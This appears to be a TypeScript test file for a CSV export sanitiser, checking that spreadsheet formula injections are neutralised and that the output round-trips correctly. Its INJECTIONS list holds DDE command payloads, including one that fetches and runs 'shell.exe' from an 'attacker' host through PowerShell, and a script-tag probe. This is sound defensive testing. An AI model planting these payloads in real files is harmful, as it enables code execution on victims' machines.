import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { escapeExportCell, sanitizeText, toCsv } from './sanitize';
import { OBJECT_KEY_STRINGS } from './testing/hostile-strings';

/** A strict RFC 4180 reader, the way a spreadsheet reads the file back. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const char = text[i] as string;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (char === '"') quoted = false;
      else field += char;
      i += 1;
      continue;
    }
    if (char === '"' && field === '') quoted = true;
    else if (char === separator) {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else if (char === '"' || char === '\r' || char === '\n') {
      throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
    } else field += char;
    i += 1;
  }
  if (quoted) throw new Error('unterminated quoted field');
  row.push(field);
  rows.push(row);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r\n]/;

const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("http://x","y")',
  "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'B1'",
  "-cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=1+2";=1+2',
  '"=1+2"',
  'a;b',
  'a,b',
  'say "hi"',
  'line1\r\nline2',
  'tab\tinside',
  '😀 =1',
  '\u200F=1+1',
  '\u202E=1+1',
  'x'.repeat(10_000),
  '='.repeat(10_000),
  '',
  // Names an object used as a map mistakes for its own members (write-excel-file 4.1.1).
  ...OBJECT_KEY_STRINGS,
  '=1+1',
  '+',
  '-',
  '@',
  '"',
  "'",
  ';',
  ',',
  '\r',
  '\n',
  'a,b;c"d\re\nf',
  'Ação, coração; São Paulo — ñ ü',
  'Ana 😀👩🏽‍💻 Souza',
];

/** Reads a CSV back with papaparse (the separator given, or guessed when omitted). */
function papaRows(text: string, delimiter?: string): { rows: string[][]; delimiter: string } {
  const result = Papa.parse<string[]>(text, { delimiter: delimiter ?? '', newline: '\r\n', quoteChar: '"' });
  expect(result.errors).toEqual([]);
  return { rows: result.data, delimiter: result.meta.delimiter };
}

describe('sanitizeText', () => {
  it('removes angle brackets', () => {
    expect(sanitizeText('<script>alert(1)</script>')).toBe('scriptalert(1)/script');
  });

  it('doubles double quotes', () => {
    expect(sanitizeText('Broker "Central"')).toBe('Broker ""Central""');
  });

  it('prefixes a single quote to a leading = + - or @', () => {
    expect(['=1', '+1', '-1', '@x'].map(sanitizeText)).toEqual(["'=1", "'+1", "'-1", "'@x"]);
  });

  it('checks the lead after removing brackets', () => {
    expect(sanitizeText('<=1+1')).toBe("'=1+1");
  });

  it('keeps surrounding whitespace and ordinary text', () => {
    expect(sanitizeText('  Ana  ')).toBe('  Ana  ');
    expect(sanitizeText('João-Pedro @ Flag')).toBe('João-Pedro @ Flag');
  });

  it('never leaves an angle bracket or an unprefixed formula lead', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-composite' }), (input) => {
        const output = sanitizeText(input);
        expect(output).not.toMatch(/[<>]/);
        expect(output).not.toMatch(/^[=+\-@]/);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('escapeExportCell', () => {
  it('prefixes an apostrophe to values starting with = + - @ tab CR or LF', () => {
    for (const value of ['=1', '+1', '-1', '@1', '\t1', '\r1', '\n1']) {
      expect(escapeExportCell(value)).toBe(`'${value}`);
    }
  });

  it('also prefixes values containing a tab or a line break (shell spec)', () => {
    expect(escapeExportCell('Rua A\nCasa 2')).toBe("'Rua A\nCasa 2");
    expect(escapeExportCell('a\tb')).toBe("'a\tb");
  });

  it('leaves ordinary text, quotes and separators alone (quoting is the CSV writer’s job)', () => {
    expect(escapeExportCell('Ana "Bia" Souza; SP')).toBe('Ana "Bia" Souza; SP');
  });

  it('writes numbers as plain numbers and blanks as empty', () => {
    expect(escapeExportCell(-1234)).toBe('-1234');
    expect(escapeExportCell(0)).toBe('0');
    expect(escapeExportCell(NaN)).toBe('');
    expect(escapeExportCell(null)).toBe('');
    expect(escapeExportCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  it('writes a BOM, semicolons and CRLF records by default', () => {
    expect(
      toCsv([
        ['Nome', 'E-mail'],
        ['Ana', 'ana@x.com'],
      ]),
    ).toBe('\uFEFFNome;E-mail\r\nAna;ana@x.com');
  });

  it('quotes fields holding the separator, quotes or line breaks', () => {
    expect(toCsv([['a;b', 'say "hi"', 'plain']], { bom: false })).toBe('"a;b";"say ""hi""";plain');
    expect(toCsv([['Rua A\r\nCasa']], { bom: false })).toBe('"\'Rua A\r\nCasa"');
    expect(toCsv([['a\rb', 'c\nd']], { bom: false })).toBe('"\'a\rb";"\'c\nd"');
  });

  it.each([';', ',', '\t', '|'])("quotes ',' and ';' whatever the separator (%j): any locale splits it right", (separator) => {
    expect(toCsv([['a,b', 'x;y', 'plain']], { separator, bom: false })).toBe(['"a,b"', '"x;y"', 'plain'].join(separator));
  });

  it('writes an empty document for no rows', () => {
    expect(toCsv([], { bom: false })).toBe('');
    expect(toCsv([])).toBe('\uFEFF');
  });

  it('rejects separators that would break the format', () => {
    for (const separator of ['', ';;', '"', '\n', '\r']) {
      expect(() => toCsv([['a']], { separator })).toThrow(RangeError);
    }
  });

  it.each([';', ',', '\t'])(
    'neutralises every injection payload when read back (separator %j)',
    (separator) => {
      const rows = INJECTIONS.map((payload) => [payload, `${payload}${separator}${payload}`]);
      const text = toCsv(rows, { separator });
      expect(text.startsWith('\uFEFF')).toBe(true);
      const parsed = parseCsv(text.slice(1), separator);
      expect(parsed).toEqual(rows.map((row) => row.map(escapeExportCell)));
      for (const cell of parsed.flat()) {
        expect(cell).not.toMatch(FORMULA_START);
      }
    },
  );

  it.each([';', ',', '\t'])('reads back with papaparse, the separator given or guessed (%j)', (separator) => {
    const rows = [['Nome', 'Texto'], ...INJECTIONS.map((payload, index) => [`linha ${index}`, payload])];
    const text = toCsv(rows, { separator });
    expect(text.startsWith('\uFEFF')).toBe(true);
    const expected = rows.map((row) => row.map(escapeExportCell));
    expect(papaRows(text.slice(1), separator).rows).toEqual(expected);
    const guessed = papaRows(text.slice(1));
    expect(guessed.delimiter).toBe(separator);
    expect(guessed.rows).toEqual(expected);
  });

  it('round-trips arbitrary tables and never emits a formula cell', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme-composite' }),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', 'a', ' '),
      }),
      fc.constantFrom(...INJECTIONS),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        fc.constantFrom(';', ','),
        (rows, separator) => {
          const text = toCsv(rows, { separator, bom: false });
          const parsed = parseCsv(text, separator);
          expect(parsed).toEqual(rows.map((row) => row.map(escapeExportCell)));
          // One empty cell is an empty document, which papaparse reads as no rows.
          if (text !== '') expect(papaRows(text, separator).rows).toEqual(parsed);
          expect(parsed.flat().some((value) => FORMULA_START.test(value))).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
